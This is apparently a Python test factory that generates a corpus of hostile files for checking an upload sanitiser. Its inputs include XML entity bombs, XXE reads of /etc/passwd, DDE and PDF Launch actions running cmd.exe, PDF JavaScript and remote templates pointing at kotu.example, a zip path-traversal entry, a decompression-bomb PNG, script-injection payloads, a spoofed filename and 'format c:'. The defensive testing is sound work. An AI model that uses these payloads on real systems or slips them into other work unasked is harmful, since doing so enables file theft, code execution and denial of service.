"""Files that mean harm, each made here: the name under which it comes, its bytes, and what must not leave again.

A file of the corpus is refused, or what is handed out of it holds none of its `venom`.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from typing import NamedTuple

import pikepdf
from pikepdf import Array, Dictionary, Name, Stream, String
from PIL import Image, PngImagePlugin

from tests.factories.reports import PDF

OOXML = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
MEGABYTE = 1024 * 1024
ENTITIES = b"<?xml version='1.0'?><!DOCTYPE a [<!ENTITY a0 'ha'>" + b"".join(
    b"<!ENTITY a%d '%s'>" % (n, b"&a%d;" % (n - 1) * 10) for n in range(1, 10)
)
BOMB = ENTITIES + b"]><a>&a9;</a>"
READS = b"<?xml version='1.0'?><!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><a>&x;</a>"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(1000)
SVG = b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"
PAGE = b"<!doctype html><script>alert(document.domain)</script>"
MAIN = {"docx": "word/document.xml", "xlsx": "xl/workbook.xml", "pptx": "ppt/presentation.xml"}
ODF = "application/vnd.oasis.opendocument."


class Hostile(NamedTuple):
    name: str
    content: bytes
    venom: tuple[bytes, ...] = ()


def corpus() -> list[Hostile]:
    return [*office(), *open_documents(), *pdfs(), *pictures(), *others()]


def packed(parts: dict[str, bytes] | list[tuple[str, bytes]]) -> bytes:
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        for name, content in parts.items() if isinstance(parts, dict) else parts:
            archive.writestr(name, content)
    return held.getvalue()


def document(kind: str = "docx", **parts: bytes) -> bytes:
    """An office file; `main` is its text, `types` its list of types, other names stand for their parts."""
    whole = {"[Content_Types].xml": parts.pop("types", b"<Types/>"), MAIN[kind]: parts.pop("main", b"<a/>")}
    return packed(whole | {name.replace("__", "/"): content for name, content in parts.items()})


def external(kind: str, target: str) -> bytes:
    return (
        f'<Relationships><Relationship Id="r" Type="{OOXML}/{kind}" '
        f'Target="{target}" TargetMode="External"/></Relationships>'
    ).encode()


def office() -> Iterator[Hostile]:
    rels = "word__" + "_rels__document.xml.rels"
    paragraphs = b"<w:p/>" * (32 * MEGABYTE // 6)
    main = {
        "bomba": paragraphs,
        "varlik": BOMB,
        "okur": READS,
        "utf16": READS.decode().encode("utf-16"),
        "ebcdic": READS.decode().encode("cp037"),
        "utf7": b"<?xml version='1.0' encoding='UTF-7'?>+ADwAIQ-DOCTYPE a+AD4-<a/>",
        "dde": b'<w:instrText> DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" </w:instrText>',
    }
    for name, content in main.items():
        yield Hostile(f"{name}.docx", document(main=content))
    parts = {
        "makro": {"word__vbaProject.bin": OLE},
        "nesne": {"word__embeddings__oleObject1.bin": OLE},
        "gizli-ole": {"word__media__image1.png": OLE},
        "denetim": {"word__activeX__activeX1.xml": b"<a/>"},
        "makro-turu": {
            "types": b"<Types><Override ContentType='application/vnd.ms-word.document.macroEnabled'/></Types>"
        },
        "gizli-bomba": {"word__veri.bin": BOMB},
        "uzak-resim": {rels: external("image", "http://127.0.0.1:9/x.png")},
        "yerel-resim": {rels: external("image", "file:///etc/passwd")},
        "uzak-sablon": {rels: external("attachedTemplate", "https://kotu.example/x.dotm")},
        "ag-sablonu": {rels: external("attachedTemplate", "\\\\kotu.example\\x.dotm")},
        "alt-belge": {rels: external("subDocument", "http://kotu.example/x.docx")},
        "cerceve": {rels: external("frame", "http://kotu.example/")},
        "kotu-iliski": {rels: b"<Relationships><Relationship"},
    }
    for name, more in parts.items():
        yield Hostile(f"{name}.docx", document(**more))
    twice = [("[Content_Types].xml", b"<a/>"), ("word/document.xml", b"<a/>"), ("word/Document.xml", b"<a/>")]
    whole = document()
    yield Hostile("tirmanan.docx", packed([*twice[:2], ("../../etc/cron.d/x", b"x")]))
    yield Hostile("cok.docx", packed([*twice[:2], *((f"word/{n}.xml", b"<a/>") for n in range(2001))]))
    yield Hostile("kilitli.docx", whole.replace(b"PK\1\2\x14\x03\x14\0\0\0", b"PK\1\2\x14\x03\x14\0\1\0"))
    yield Hostile("yarim.docx", whole[: len(whole) // 2])
    yield Hostile("sayfa-zip.docx", PAGE + whole)
    yield Hostile("eski.docx", OLE)
    yield Hostile("duz.docx", packed({"not.txt": b"x"}))
    sheet = b"<row/>" * (11 * MEGABYTE // 6)
    yield Hostile("oran.xlsx", document("xlsx", xl__worksheets__sheet1_xml=b"0" * (50 * MEGABYTE)))
    yield Hostile(
        "buyuk.xlsx",
        packed({"[Content_Types].xml": b"<a/>", MAIN["xlsx"]: b"<a/>", "xl/worksheets/1.xml": sheet}),
    )
    yield Hostile("varlik.xlsx", document("xlsx", main=BOMB))
    yield Hostile("dde.xlsx", document("xlsx", xl__externalLinks__1=b"<ddeLink ddeService='cmd'/>"))
    yield Hostile("makro.xlsx", document("xlsx", xl__vbaProject=OLE))
    yield Hostile("makro.pptx", document("pptx", ppt__vbaProject=OLE))
    yield Hostile("varlik.pptx", document("pptx", main=READS))


def open_documents() -> Iterator[Hostile]:
    def written(kind: str, **parts: bytes) -> bytes:
        whole = {"mimetype": f"{ODF}{kind}".encode(), "content.xml": parts.pop("content", b"<o/>")}
        return packed(whole | {name.replace("__", "/"): content for name, content in parts.items()})

    picture = b'<o xmlns:d="d" xmlns:x="x"><d:image x:href="%s"/></o>'
    yield Hostile("uzak.odt", written("text", content=picture % b"http://127.0.0.1:9/x.png"))
    yield Hostile("yerel.odt", written("text", content=picture % b"file:///etc/passwd"))
    yield Hostile("makro.odt", written("text", Basic__Standard__Module1=b"<a/>"))
    yield Hostile("betik.ods", written("spreadsheet", Scripts__python__x=b"import os"))
    yield Hostile("varlik.ods", written("spreadsheet", content=BOMB))
    yield Hostile("nesne.odt", written("text", Nesne=OLE))


def pdfs() -> Iterator[Hostile]:
    def script() -> Dictionary:
        return Dictionary(S=Name.JavaScript, JS=String("app.launchURL('http://kotu.example')"))

    def made(change: Callable[[pikepdf.Pdf], None], **saved) -> bytes:
        held = io.BytesIO()
        with pikepdf.open(io.BytesIO(PDF)) as pdf:
            change(pdf)
            pdf.save(held, **saved)
        return held.getvalue()

    def annotation(subtype: Name, **entries) -> Callable[[pikepdf.Pdf], None]:
        def change(pdf: pikepdf.Pdf) -> None:
            made = {key: value() for key, value in entries.items()}
            note = Dictionary(Type=Name.Annot, Subtype=subtype, Rect=[0, 0, 9, 9], **made)
            pdf.pages[0].Annots = Array([pdf.make_indirect(note)])

        return change

    def root(key: str, value) -> Callable[[pikepdf.Pdf], None]:
        return lambda pdf: pdf.Root.__setitem__(key, value())

    def carried(pdf: pikepdf.Pdf) -> None:
        pdf.attachments["virus.exe"] = b"MZ carried"

    def hidden(pdf: pikepdf.Pdf) -> None:
        pdf.Root.OpenAction = pdf.make_indirect(
            Dictionary(S=Name.GoTo, D=[0], Next=pdf.make_indirect(script()))
        )

    run = (b"JavaScript", b"kotu.example")
    acts = {
        "acilista": (root("/OpenAction", script), run),
        "sayfada": (lambda pdf: pdf.pages[0].obj.__setitem__("/AA", Dictionary(O=script())), run),
        "adlarda": (
            root("/Names", lambda: Dictionary(JavaScript=Dictionary(Names=[String("a"), script()]))),
            run,
        ),
        "ardindan": (hidden, run),
        "baglantida": (annotation(Name.Link, A=script), run),
        "calistirir": (
            annotation(Name.Link, A=lambda: Dictionary(S=Name.Launch, F=String("cmd.exe"))),
            (b"Launch", b"cmd.exe"),
        ),
        "gonderir": (
            annotation(Name.Link, A=lambda: Dictionary(S=Name.SubmitForm, F=String("x"))),
            (b"SubmitForm",),
        ),
        "gomulu": (carried, (b"EmbeddedFile", b"MZ carried")),
        "gomuluye": (annotation(Name.Link, A=lambda: Dictionary(S=Name.GoToE, T=Dictionary())), (b"GoToE",)),
        "zengin": (annotation(Name.RichMedia, RichMediaContent=Dictionary), (b"RichMedia",)),
        "film": (annotation(Name.Screen, A=lambda: Dictionary(S=Name.Rendition)), (b"Rendition",)),
        "xfa": (root("/AcroForm", lambda: Dictionary(XFA=String("<xdp/>"))), (b"XFA",)),
    }
    for name, (change, venom) in acts.items():
        yield Hostile(f"{name}.pdf", made(change), venom)
    packed_away = {"object_stream_mode": pikepdf.ObjectStreamMode.generate}
    yield Hostile("paketli.pdf", made(root("/OpenAction", script), **packed_away), run)
    lock = pikepdf.Encryption(user="gizli", owner="gizli")
    yield Hostile("kilitli.pdf", made(root("/OpenAction", script), encryption=lock))
    yield Hostile("ek-zip.pdf", PDF + packed({"virus.exe": b"MZ in a zip"}), (b"PK\3\4",))
    yield Hostile("yarim.pdf", PDF[: len(PDF) // 2])
    yield Hostile("sayfa.pdf", PAGE)
    yield Hostile("once-sayfa.pdf", PAGE + PDF, (b"<script",))
    yield Hostile("derin.pdf", PDF.replace(b"/Count 1", b"/Count 1/X " + b"[" * 5000 + b"]" * 5000))
    yield Hostile(
        "betimleme.pdf", made(lambda pdf: pdf.Root.__setitem__("/AF", Array([Stream(pdf, b"x")]))), (b"/AF",)
    )


def pictures() -> Iterator[Hostile]:
    def drawn(kind: str, size: tuple[int, int] = (8, 8), mode: str = "RGB", **saved) -> bytes:
        held = io.BytesIO()
        Image.new(mode, size).save(held, kind, **saved)
        return held.getvalue()

    words = PngImagePlugin.PngInfo()
    words.add_text("Comment", "<script>alert(1)</script>")
    png, jpg = drawn("PNG"), drawn("JPEG")
    archive = packed({"virus.exe": b"MZ"})
    yield Hostile("dev.png", _vast(17_320))
    yield Hostile("genis.jpg", drawn("JPEG", (6000, 5000), "L"))
    yield Hostile("yazili.png", drawn("PNG", pnginfo=words), (b"<script",))
    yield Hostile("ek.png", png + PAGE, (b"<script",))
    yield Hostile("zip.png", png + archive, (b"PK\3\4",))
    yield Hostile("ek.jpg", jpg + PAGE, (b"<script",))
    yield Hostile("yorum.jpg", drawn("JPEG", comment=PAGE), (b"<script",))
    yield Hostile("yarim.png", png[:45])
    yield Hostile("kirik.png", png.replace(b"IDAT", b"IDAX"))
    yield Hostile("gif.png", drawn("GIF"))
    yield Hostile("tiff.jpg", drawn("TIFF"))
    yield Hostile("webp.jpg", drawn("WEBP"))
    yield Hostile("svg.png", SVG)
    yield Hostile("sayfa.jpg", PAGE)


def _vast(side: int) -> bytes:
    """A PNG of side × side white points in a few kilobytes."""

    def chunk(kind: bytes, content: bytes) -> bytes:
        return (
            struct.pack("!I", len(content)) + kind + content + struct.pack("!I", zlib.crc32(kind + content))
        )

    head = struct.pack("!IIBBBBB", side, side, 1, 0, 0, 0, 0)
    rows = zlib.compress(bytes((side // 8 + 2) * side), 9)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def others() -> Iterator[Hostile]:
    for name, content in {
        "resim.svg": SVG,
        "sayfa.html": PAGE,
        "sayfa.xhtml": PAGE,
        "arsiv.zip": packed({"virus.exe": b"MZ"}),
        "program.exe": b"MZ\x90\0",
        "betik.js": b"alert(1)",
        "toplu.bat": b"format c:",
        "uygulama.hta": PAGE,
        "makro.docm": document(),
        "eski.xls": OLE,
        "zengin.rtf": b"{\\rtf1}",
        "rapor.pdf.exe": b"MZ",
        "rapor\u202efdp.exe": b"MZ",
        "adsiz": PDF,
        "sayfa.txt": PAGE,
        "resim.csv": SVG,
        "belge.txt": PDF,
        "sifir.csv": b"a;b\0c",
        "varlik.txt": BOMB,
        "bos.pdf": b"",
    }.items():
        yield Hostile(name, content)
